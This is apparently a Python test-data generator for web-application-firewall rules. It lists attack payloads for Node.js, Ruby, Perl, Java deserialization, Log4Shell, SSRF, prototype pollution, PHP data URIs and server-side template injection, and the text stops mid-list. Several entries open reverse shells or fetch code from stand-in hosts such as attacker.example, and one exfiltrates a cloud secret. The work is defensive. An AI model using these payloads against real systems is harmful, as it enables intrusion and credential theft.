"""Blind positive tests for the generic (Node.js, SSRF, prototype pollution, Ruby, Perl, Node.js DoS, PHP data
scheme), Java and server-side template injection families, written as a sixteenth rule author writes them from the
rule titles alone; this author varies WHERE a payload sits more than anyone.

Angle: for each detection title (CRS 3.3.4 934100 and 944100-944250 at PL1-2, and the request-rule titles CRS 4.x
added: Node.js injection 2/2, cloud-metadata SSRF, IP-address SSRF, prototype pollution, Ruby, Perl, Node.js DoS,
PHP data scheme, Log4Shell, malicious class loading, Java script file upload), the canonical attack of the title and
one test per alternative its family covers (keyword, function, class, gadget, encoding, dialect), 8 to 12 distinct
payloads, one sub-family per title. Server-side template injection (category ssti) gets one sub-family per engine:
Jinja2, Twig, Freemarker, Velocity, Thymeleaf, ERB, Smarty, Handlebars, Pug, Mako, Tornado, Nunjucks, EJS, Razor,
Pebble and Jinjava.

Placements: each payload is sent twice. Once to our real routes, rotating over the places a rule of its title reads
(query value of /api/users, query parameter name, form value and name on /admin/users/search with csrf_token, JSON
value of /api/users at depth 1 to 4 and inside an array, JSON key, nested JSON paths, cookie value and name,
User-Agent, Referer, a custom header, XML element text, attribute and whole document, multipart field value, field
name and file name, the URL path as a whole segment, a matrix parameter and a trailing file name, a PUT of a file,
a text/plain raw body). Once the way a WAF's regression suite sends it ("rs-" placements): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary names (foo, var, x,
test, id, arg1) as a query string, parameter name, form body, JSON body, XML body, a raw form-typed body that is not
key=value, a multipart upload, or in the User-Agent, Referer, a custom header or a cookie. Each payload is kept as it
must appear in its place to work: percent-encoded in URLs and form bodies (Java serialization magic bytes as their
latin-1 bytes), escaped in XML, never in a header when it holds a line break.

Benign half: the same words used innocently, as real users type them (Slack messages and bios through chat_and_bio,
admin and API searches for names, addresses and jobs, documentation links, message templates with placeholders,
real client User-Agents, Referers and cookies, ordinary file uploads, data: image avatars, XML profile imports).

Authorship and independence: written from general knowledge and the rule titles alone; no rule, ruleset regression
test, WAF engine file or public payload list was read. Measured once on unchanged code; the payloads were not changed
after the measurement. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import base64
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredeighteenth"

BOUNDARY = "----WebKitFormBoundaryQ7pL2vX9kR4mT8sZ"
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
COOKIE_SAFE = "!#$&'()*+-./:<>?@[]^_`{|}~="
JSP_BODY = "<% out.println(\"upload ok\"); %>\n"


@dataclass(frozen=True)
class Title:
    sub: str
    category: str
    payloads: list[str]
    real: list[str]
    rs: list[str]
    names: list[str]
    latin1: bool = False   # payload characters are raw bytes (Java serialization magic bytes)


# --------------------------------------------------------------------------------------------------- placements
EVERYWHERE = ["query", "form", "json", "header:User-Agent", "json-depth-2", "cookie", "param-name", "xml",
              "json-array", "header:Referer", "multipart-field", "json-depth-3", "form-name", "path",
              "header:X-Client-Data", "json-key", "xml-attr", "json-depth-4", "multipart-name", "cookie-name",
              "path-matrix", "raw-body", "multipart-filename", "path-file"]
RS_EVERYWHERE = ["rs-query", "rs-form", "rs-json", "rs-header:User-Agent", "rs-xml", "rs-cookie",
                 "rs-header:Referer", "rs-raw-body", "rs-header:X-Custom-Header", "rs-param-name"]
URL_PLACES = ["query", "form", "json", "json-depth-2", "header:Referer", "json-array", "xml", "multipart-field",
              "cookie", "json-depth-3", "path-file", "header:X-Client-Data", "xml-attr", "json-depth-4", "path",
              "raw-body"]
RS_URL_PLACES = ["rs-query", "rs-form", "rs-json", "rs-header:Referer", "rs-xml", "rs-raw-body", "rs-cookie",
                 "rs-header:X-Custom-Header"]
KEY_PLACES = ["param-name", "json-path", "form-name", "json-path-deep", "multipart-name", "json-path-array",
              "cookie-name", "json-key", "query"]
RS_KEY_PLACES = ["rs-param-name", "rs-json-path", "rs-form-name", "rs-raw-body"]
XML_DOC_PLACES = ["xml-raw", "json", "xml-raw", "form", "xml-raw", "query", "multipart-field", "xml-raw", "xml",
                  "json-depth-3", "raw-body", "cookie", "header:X-Client-Data"]
RS_XML_DOC_PLACES = ["rs-xml-raw", "rs-form", "rs-xml-raw", "rs-json", "rs-xml-raw", "rs-query", "rs-raw-body",
                     "rs-header:User-Agent"]
BYTES_PLACES = ["query", "form", "cookie", "param-name", "form-name"]
RS_BYTES_PLACES = ["rs-query", "rs-form", "rs-raw-body", "rs-cookie", "rs-param-name"]
UPLOAD_PLACES = ["multipart-filename", "put-file", "admin-upload-filename", "header:X-File-Name"]
RS_UPLOAD_PLACES = ["rs-multipart-filename", "rs-put-file", "rs-multipart-filename", "rs-header:X-File-Name"]
TEMPLATE_PLACES = ["query", "json", "form", "json-depth-2", "xml", "multipart-field", "header:User-Agent",
                   "json-array", "cookie", "path", "json-depth-3", "header:Referer", "xml-attr", "param-name",
                   "json-depth-4", "header:X-Client-Data", "json-key", "multipart-filename", "path-matrix",
                   "raw-body", "form-name", "cookie-name"]
RS_TEMPLATE_PLACES = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-header:User-Agent", "rs-cookie",
                      "rs-raw-body", "rs-header:Referer", "rs-header:X-Custom-Header", "rs-param-name"]


# --------------------------------------------------------------------------------------------------- payloads
def _b64(raw: bytes, urlsafe: bool = False) -> str:
    return (base64.urlsafe_b64encode(raw) if urlsafe else base64.b64encode(raw)).decode()


MAGIC = b"\xac\xed\x00\x05"
SER_HASHMAP = MAGIC + b"sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI" \
                      b"\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01"
SER_QUEUE = MAGIC + b"sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00" \
                    b"\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02"
SER_AIH = MAGIC + b"sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00" \
                  b"\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xp"
SER_STRING = MAGIC + b"t\x00\x0bhello world"
SER_ARRAY = MAGIC + b"ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x02"
SER_BAVE = MAGIC + b"sr\x00.javax.management.BadAttributeValueExpException\xd4\xe7\xda\xab\x63\x2d\x46\x40\x02" \
                   b"\x00\x01L\x00\x03valt\x00\x12Ljava/lang/Object;xr"
SER_URL = MAGIC + b"sr\x00\x0cjava.net.URL\x96%76\x1a\xfc\xe4r\x03\x00\x07I\x00\x08hashCodeI\x00\x04port"

NODE_1 = [
    "require('child_process').exec('id')",
    "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()",
    "process.mainModule.require('child_process').spawnSync('id').stdout",
    "global.process.mainModule.constructor._load('child_process').exec('whoami')",
    "require('child_process').execFile('/bin/sh', ['-c', 'id'])",
    "require('child_process').fork('/tmp/x.js')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[]})",
    "_$$ND_FUNC$$_function(){require('child_process').exec('ls /')}()",
    "require('fs').writeFileSync('/tmp/pwn.js', 'module.exports=1')",
    "process.kill(process.pid, 'SIGKILL')",
    "module.require('child_process').spawn('nc', ['-e', '/bin/sh', '203.0.113.5', '4444'])",
    "require('net').connect(4444, '203.0.113.5', function(){this.pipe(require('child_process').spawn('sh').stdin)})",
]
_NODE_B64 = _b64(b"require('child_process').exec('id')")
NODE_2 = [
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "new Function('return process.env')()",
    "eval(\"require('child_process').exec('id')\")",
    "vm.runInNewContext('this.constructor.constructor(\"return process\")()')",
    "require('vm').runInThisContext('process.exit(1)')",
    "setTimeout(\"process.exit()\", 100)",
    "Function('return this')().process.exit()",
    "import('child_process').then(cp => cp.execSync('id'))",
    "Reflect.construct(Function, ['return process'])().exit()",
    f"eval(Buffer.from('{_NODE_B64}', 'base64').toString())",
    "setInterval('require(\"fs\").unlinkSync(\"/tmp/x\")', 10)",
    "({}).constructor.constructor('return globalThis.process')().env",
]
SSRF_META = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.goog/computeMetadata/v1/project/project-id",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/metadata/v1/",
    "http://metadata/computeMetadata/v1/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
]
SSRF_IP = [
    "http://127.0.0.1:8080/admin",
    "http://10.0.0.5:9200/_cat/indices",
    "https://192.168.0.1/cgi-bin/luci",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.01/",
    "http://0x7f.0x00.0x00.0x01/",
    "http://[::1]:6379/",
    "http://[::ffff:127.0.0.1]/",
    "gopher://172.16.0.3:11211/_stats",
    "http://127.1/server-status",
    "http://017700000001:22/",
]
POLLUTION = [
    "__proto__[isAdmin]",
    "__proto__.isAdmin",
    "constructor[prototype][role]",
    "constructor.prototype.role",
    "user[__proto__][admin]",
    "__proto__[outputFunctionName]",
    "a[constructor][prototype][polluted]",
    "__proto__[shell]",
    "__proto__[NODE_OPTIONS]",
    "settings.__proto__.toString",
    "x[__proto__][__proto__][y]",
    "filter[constructor][prototype][sourceURL]",
]
RUBY = [
    "Kernel.exec('id')",
    "#{`id`}",
    "%x(cat /etc/passwd)",
    "IO.popen('id').read",
    "system('uname -a')",
    "Open3.capture2('id')",
    "eval(\"File.read('/etc/passwd')\")",
    "Object.const_get('Kernel').send(:system, 'id')",
    "instance_eval('`whoami`')",
    "open('|id').read",
    "Process.spawn('nc -e /bin/sh 203.0.113.5 4444')",
    "--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: []",
]
PERL = [
    "@{[system('id')]}",
    "system(\"cat /etc/passwd\")",
    "exec '/bin/sh'",
    "qx{uname -a}",
    "open(F, \"|/bin/sh -c id\")",
    "eval \"print `id`\"",
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
    "connect(S,sockaddr_in(4444,inet_aton('203.0.113.5')))",
    "perl -e 'exec \"/bin/sh\"'",
    "${\\ system('id')}",
    "do '/tmp/evil.pl'",
    "readpipe('id')",
    "/bin/ls -la|",
]
NODE_DOS = [
    "while(true){}",
    "for(;;){}",
    "while(1);",
    "do{}while(true)",
    "while (!![]) {}",
    "(function f(){f()})()",
    "Array(1e9).fill(0).join()",
    "'a'.repeat(2**30)",
    "new Array(4294967295).join('x')",
    "process.nextTick(function loop(){process.nextTick(loop)})",
    "while(true){ Buffer.alloc(1e6) }",
    "RegExp('(a+)+$').test('a'.repeat(40)+'!')",
]
DATA_SCHEME = [
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain,<?php system('id');?>",
    "data:;base64,PD9waHAgZWNobyAxOyA/Pg==",
    "data://application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "DATA://text/plain;base64,PD9waHAgcGFzc3RocnUoJ2lkJyk7ID8+",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data://text/plain;charset=utf-8;base64,PD9waHAgZXZhbCgkX1BPU1RbMF0pOyA/Pg==",
    "data:application/octet-stream;base64,TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=",
    "data://,<?php passthru($_GET[1]);",
    "php://filter/resource=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
]
JAVA_RCE_CLASS = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\").start()",
    "@java.lang.Runtime@getRuntime().exec('whoami')",
    "Class.forName(\"java.lang.Runtime\")",
    "T(java.lang.ProcessBuilder).new(\"id\").start()",
    "java.lang.UNIXProcess",
    "java.lang.ProcessImpl.start(new String[]{\"id\"}, null, null, null, false)",
    "java.lang.System.exit(0)",
    "<object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\">"
    "<string>id</string></void></array><void method=\"start\"/></object>",
    "java.lang.reflect.Method m = java.lang.Runtime.class.getMethod(\"exec\", String.class)",
    "javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
    "java.lang.Thread.sleep(10000)",
]
JAVA_SPAWN = [
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind."
    "v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml."
    "XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto."
    "NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi."
    "FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\">"
    "<command><string>touch</string><string>/tmp/pwned</string></command><redirectErrorStream>false"
    "</redirectErrorStream></next></iter><filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method>"
    "<class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter>"
    "</iter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects."
    "NativeString><int>1</int></entry></map>",
    "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
    "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\""
    "java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>calc.exe</string>"
    "</command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
    "<next class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string><string>-c</string>"
    "<string>id</string></command></next>",
    "java.lang.Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"id\"})",
    "new ProcessBuilder(new String[]{\"cmd.exe\",\"/c\",\"whoami\"}).start()",
    "<void class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string></void></void>",
    "Runtime.getRuntime().exec(\"calc\")",
    "<object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><array class=\"java.lang.String\""
    " length=\"3\"><void index=\"0\"><string>/bin/sh</string></void><void index=\"1\"><string>-c</string></void>"
    "<void index=\"2\"><string>id</string></void></array></void></object>",
    "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>ping"
    "</string><string>203.0.113.5</string></command></target><action>start</action></handler>",
    "ProcessBuilder pb = new ProcessBuilder(\"bash\", \"-c\", \"curl http://attacker.example/x|sh\"); pb.start();",
    "{\"@type\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}",
]
JAVA_SER = [
    "org.apache.commons.collections.functors.InvokerTransformer iMethodName exec java.lang.Runtime getRuntime",
    "org.apache.commons.collections.functors.ChainedTransformer iTransformers ConstantTransformer java.lang.Runtime",
    "org.apache.commons.collections4.functors.InstantiateTransformer iParamTypes java.lang.ProcessBuilder",
    "org.apache.commons.collections.functors.ConstantTransformer(java.lang.Runtime.class)",
    "org.apache.commons.collections.keyvalue.TiedMapEntry org.apache.commons.collections.map.LazyMap "
    "InvokerTransformer exec",
    "sun.reflect.annotation.AnnotationInvocationHandler memberValues LazyMap InvokerTransformer getRuntime",
    "org.codehaus.groovy.runtime.MethodClosure execute java.lang.ProcessBuilder",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl _bytecodes _name java.lang.Runtime exec",
    "org.apache.commons.collections4.comparators.TransformingComparator InvokerTransformer newTransformer",
    "javax.management.BadAttributeValueExpException val TiedMapEntry InvokerTransformer exec",
    "bsh.XThis bsh.NameSpace java.lang.ProcessBuilder start",
    "org.apache.commons.collections.functors.InstantiateFactory java.io.FileWriter /tmp/x.jsp",
]
JAVA_CLASS = [
    "com.opensymphony.xwork2.ActionContext.container",
    "new java.io.FileOutputStream(\"/tmp/x.jsp\")",
    "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})",
    "new javax.naming.InitialContext().lookup(\"rmi://attacker.example/x\")",
    "java.beans.XMLDecoder",
    "sun.misc.Unsafe.getUnsafe()",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\")",
    "java.lang.ClassLoader.getSystemClassLoader()",
    "@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
    "org.apache.struts2.ServletActionContext.getResponse().getWriter()",
    "new java.io.BufferedReader(new java.io.InputStreamReader(p.getInputStream()))",
    "jdk.jshell.JShell.create().eval(\"1\")",
]
MAGIC_BYTES = [
    SER_HASHMAP.decode("latin-1"),
    SER_ARRAY.decode("latin-1"),
    SER_STRING.decode("latin-1"),
    SER_AIH.decode("latin-1"),
    SER_QUEUE.decode("latin-1"),
    (MAGIC + b"w\x04\x00\x00\x00\x01").decode("latin-1"),
    SER_URL.decode("latin-1"),
    MAGIC.decode("latin-1"),
    SER_BAVE.decode("latin-1"),
    (MAGIC + b"sr\x00\x13java.util.ArrayListx\x81\xd2\x1d\x99\xc7a\x9d\x03\x00\x01I\x00\x04sizexp").decode("latin-1"),
    "aced00057372001a6f72672e6170616368652e636f6d6d6f6e732e636f6c6c656374696f6e73",
    "ACED0005737200116A6176612E7574696C2E486173684D6170",
]
BASE64_SER = [
    _b64(SER_HASHMAP),
    _b64(SER_QUEUE),
    _b64(SER_AIH),
    _b64(SER_STRING),
    _b64(SER_ARRAY),
    _b64(SER_BAVE, urlsafe=True),
    _b64(b"\x00" + SER_HASHMAP),
    _b64(b"\x00\x00" + SER_QUEUE),
    "data:application/x-java-serialized-object;base64," + _b64(SER_URL),
    _b64(SER_HASHMAP).rstrip("="),
    _b64(b"x" + SER_AIH),
    _b64(b"ab" + SER_STRING),
]
JAVA_SER_PL2 = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections.functors.InstantiateFactory",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeCloneFactory",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory",
    "org.apache.commons.collections.functors.WhileClosure",
    "org.apache.commons.collections.functors.ForClosure",
    "org.apache.commons.collections.functors.CloneTransformer",
    "org.apache.commons.collections4.functors.InstantiateTransformer",
    "java.beans.XMLDecoder readObject java.io.FileWriter",
    "org.apache.commons.beanutils.BeanComparator outputProperties",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/x\","
    "\"autoCommit\":true}",
    "org.apache.xalan.xsltc.trax.TemplatesImpl _bytecodes _tfactory",
]
JAVA_METHOD = [
    "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')",
    "Class.forName(\"java.lang.Runtime\").getDeclaredMethod(\"getRuntime\")",
    "m.setAccessible(true); m.invoke(null, new Object[0])",
    "Thread.currentThread().getContextClassLoader().loadClass(\"Exploit\").newInstance()",
    "getClass().getClassLoader().defineClass(\"Evil\", bytes, 0, bytes.length)",
    "new java.io.ObjectInputStream(request.getInputStream()).readObject()",
    "Runtime.getRuntime().exec(\"calc\")",
    "System.getenv().toString()",
    "String.class.getConstructors()[0].newInstance(\"x\")",
    "engine.eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
    "java.lang.invoke.MethodHandles.lookup().findStatic(Runtime.class, \"getRuntime\", mt).invoke()",
    "getServletContext().getResourceAsStream(\"/WEB-INF/web.xml\")",
]
LOG4J = [
    "${jndi:ldap://attacker.example:1389/Exploit}",
    "${jndi:rmi://203.0.113.9:1099/obj}",
    "${jndi:dns://attacker.example/a}",
    "${jndi:ldaps://attacker.example/a}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/x}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${jndi:iiop://attacker.example/a}",
    "${${upper:j}ndi:http://attacker.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
]
CLASS_LOADING = [
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory",
    "class.module.classLoader.resources.context.parent.pipeline.first.prefix",
    "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat",
    "class.classLoader.URLs[0]",
    "class['classLoader']['resources']['dirContext']['docBase']",
    "class.classLoader.resources.dirContext.docBase",
    "Class.classLoader.DefaultAssertionStatus",
    "user.class.module.classLoader.resources.context.parent.appBase",
    "class.module.classLoader.jarPath",
    "class[module][classLoader][resources][context][parent][pipeline][first][pattern]",
]
JSP_UPLOAD = [
    "shell.jsp",
    "cmd.jspx",
    "avatar.png.jsp",
    "index.JSP",
    "backdoor.jsp;.png",
    "webapps/ROOT/x.jsp",
    "report.jspf",
    "x.jsp.",
    "upload.jsp::$DATA",
    "webshell.jspx",
    "x.JsP",
    "payload.jsp ",
]

JINJA2 = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('whoami').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{% set x = namespace.__init__.__globals__.os.popen('id').read() %}{{ x }}",
    "{{ url_for.__globals__.current_app.config }}",
]
TWIG = [
    "{{7*'7'}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{ ['id', '']|sort('system') }}",
    "{{ [0]|reduce('system', 'id') }}",
    "{% set a = \"id\" %}{{ [a]|filter(\"shell_exec\")|first }}",
    "{{ _self.env.setCache(\"ftp://attacker.example:21\") }}{{ _self.env.loadTemplate(\"backdoor\") }}",
    "{{ dump(app) }}",
    "{{ source('/etc/passwd') }}",
    "{{ app.request.query.filter(0,0,1024,{'options':'system'}) }}",
]
FREEMARKER = [
    "${7*7}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "<#assign jt=\"freemarker.template.utility.JythonRuntime\"?new()><@jt>import os;os.system(\"id\")</@jt>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#list .data_model?keys as k>${k}</#list>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "<#include \"/etc/passwd\">",
    "${object.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")}",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.io.File\",\"/tmp\")}",
    "${user?api.class.protectionDomain.classLoader}",
]
VELOCITY = [
    "#set($x=7*7)${x}",
    "#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "#set($ex=$class.forName(\"java.lang.Runtime\").getRuntime().exec(\"whoami\"))$ex.waitFor()",
    "#foreach($i in [1..3])$i#end",
    "$request.getClass().getClassLoader()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "#include(\"/etc/passwd\")",
    "#parse(\"/WEB-INF/web.xml\")",
    "$springMacroRequestContext.getWebApplicationContext()",
    "#evaluate('#set($r=$class.forName(\"java.lang.Runtime\"))')",
    "#set($s='')$s.class.forName('java.lang.System').getProperty('user.dir')",
]
THYMELEAF = [
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "[[${T(java.lang.System).getenv()}]]",
    "[(${7*7})]",
    "${T(java.lang.Runtime).getRuntime().exec('calc')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "__*{7*7}__::.x",
    "<p th:text=\"${@environment.getProperty('spring.datasource.url')}\"></p>",
    "~{::__${T(java.lang.Thread).sleep(5000)}__}",
    "@{/(${T(java.lang.Runtime).getRuntime().exec('id')})}",
    "<p th:utext=\"${#ctx.getClass().forName('java.lang.Runtime')}\"></p>",
    "__${#request.getClass().getClassLoader()}__::main",
]
ERB = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id') %>",
    "<% `curl http://attacker.example/x | sh` %>",
    "<%= Kernel.exec('whoami') %>",
    "<%= ENV.to_h %>",
    "<%= instance_variable_get(:@secret) %>",
    "<%= %x(uname -a) %>",
]
SMARTY = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    "{passthru('cat /etc/passwd')}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{fetch file='/etc/passwd'}",
    "{include file='/etc/passwd'}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"id\\\")\"}",
    "{eval var='{system(\"id\")}'}",
    "{function name='x'}{system('id')}{/function}",
]
HANDLEBARS = [
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return "
    "require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 "
    "codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{this.constructor.constructor \"return process\"}}",
    "{{lookup this \"constructor\"}}",
    "{{#with this as |o|}}{{o.constructor.constructor(\"return process.env\")()}}{{/with}}",
    "{{#each (lookup (lookup this \"constructor\") \"prototype\")}}{{this}}{{/each}}",
    "{{__proto__.constructor}}",
    "{{#with (lookup this \"__proto__\")}}{{this.__defineGetter__}}{{/with}}",
    "{{> (lookup . \"partial\") }}",
    "{{{process.mainModule.require('child_process').execSync('id')}}}",
    "{{#if (lookup this.constructor \"name\")}}x{{/if}}",
    "{{#blockHelperMissing \"constructor\"}}{{this}}{{/blockHelperMissing}}",
    "{{log (lookup this \"constructor\")}}",
]
PUG = [
    "#{7*7}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('id')}()}",
    "- var x = root.process.mainModule.require('child_process').execSync('id')",
    "#{root.process.mainModule.require('child_process').spawnSync('cat', ['/etc/passwd']).stdout}",
    "= global.process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "p= process.env",
    "include /etc/passwd",
    "- require('child_process').exec('id')",
    "!{global.process.env}",
    "#{global.process.mainModule.constructor._load('child_process').execSync('id').toString()}",
    "mixin x\n  - process.exit()\n+x",
    "div(attr=global.process.mainModule.require('child_process').execSync('whoami'))",
]
MAKO = [
    "${7*7}",
    "<% import os; x = os.popen('id').read() %>${x}",
    "${self.module.cache.util.os.system(\"id\")}",
    "${self.template.module.runtime.util.os.popen('id').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
